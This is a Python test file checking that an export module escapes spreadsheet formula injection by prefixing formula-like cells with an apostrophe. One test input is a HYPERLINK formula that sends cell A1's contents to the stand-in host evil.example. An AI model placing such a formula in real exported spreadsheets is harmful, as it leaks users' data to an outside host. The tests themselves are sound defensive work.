"""Spreadsheet formula injection (issue 22): text that a spreadsheet would run as a
formula is written as text, in every export."""

from decimal import Decimal as D

import pytest

from core.common.exports import safe_cell, safe_row

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_is_escaped(text):
    assert safe_cell(text) == "'" + text


def test_other_values_pass_through():
    assert safe_row(["Siti", 5, D("1.5"), None, "", "A=1"]) == [
        "Siti",
        5,
        D("1.5"),
        None,
        "",
        "A=1",
    ]
